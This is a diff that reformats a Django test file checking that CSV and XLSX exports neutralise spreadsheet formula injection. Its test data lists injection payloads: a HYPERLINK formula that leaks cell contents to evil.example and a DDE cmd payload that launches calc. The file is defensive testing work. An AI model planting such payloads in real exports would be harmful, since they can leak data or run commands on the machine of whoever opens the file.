@@ -1,4 +1,4 @@
-"""Exports are safe to open (issue 11, point 10): no CSV or XLSX cell starts with a character a
+"""Exports are safe to open: no CSV or XLSX cell starts with a character a
 spreadsheet program would read as a formula, and importing an export gives the same plan back."""
 
 import csv
@@ -18,8 +18,16 @@ from .test_export import plan_shape
 pytestmark = pytest.mark.django_db
 
 NASTY = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
-    "\tTabbed", "\rReturned", "'=already quoted", "''+twice", "'plain quote", "Ordinary text",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\tTabbed",
+    "\rReturned",
+    "'=already quoted",
+    "''+twice",
+    "'plain quote",
+    "Ordinary text",
 ]
 
 
@@ -28,10 +36,19 @@ def nasty_plan():
     plan = ActionPlanFactory(title="Nasty", published=True)
     section = SectionFactory(plan=plan, title="=1+1")
     for n, value in enumerate(NASTY, start=1):
-        rec = RecommendationFactory(section=section, plan=plan, code=f"A{n}", category="Priority",
-                                    wording=value, order=n)
-        ActionFactory(recommendation=rec, number=f"A{n}.1", activity=value, outcome=value, lead=value[:300],
-                      progress=value, timeline="31/03/15", order=1)
+        rec = RecommendationFactory(
+            section=section, plan=plan, code=f"A{n}", category="Priority", wording=value, order=n
+        )
+        ActionFactory(
+            recommendation=rec,
+            number=f"A{n}.1",
+            activity=value,
+            outcome=value,
+            lead=value[:300],
+            progress=value,
+            timeline="31/03/15",
+            order=1,
+        )
     return plan
 
 
@@ -49,7 +66,7 @@ def test_every_csv_and_xlsx_cell_is_neutralised(client, nasty_plan):
     response = client.get(f"/action-plans/{nasty_plan.pk}/export.csv")
     assert response.status_code == 200
     cells = csv_cells(response.content)
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
     assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
 
     response = client.get(f"/action-plans/{nasty_plan.pk}/export.xlsx")
@@ -63,11 +80,21 @@ def test_every_csv_and_xlsx_cell_is_neutralised(client, nasty_plan):
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_reimporting_a_neutralised_export_gives_the_same_plan(tmp_path, nasty_plan, fmt):
     out = tmp_path / f"export.{fmt}"
-    call_command("export_action_plan", str(nasty_plan.pk), "--format", fmt, "--output", str(out),
-                 stdout=StringIO(), stderr=StringIO())
+    call_command(
+        "export_action_plan",
+        str(nasty_plan.pk),
+        "--format",
+        fmt,
+        "--output",
+        str(out),
+        stdout=StringIO(),
+        stderr=StringIO(),
+    )
     call_command("import_action_plan", str(out), "--title", "Again", stdout=StringIO())
     again = ActionPlan.objects.get(title="Again")
+
     # The importer strips values (as it always has): compare what survives stripping.
     def stripped(shape):
         return [tuple(v.strip() if isinstance(v, str) else v for v in row) for row in shape]
+
     assert stripped(plan_shape(again)) == stripped(plan_shape(nasty_plan))
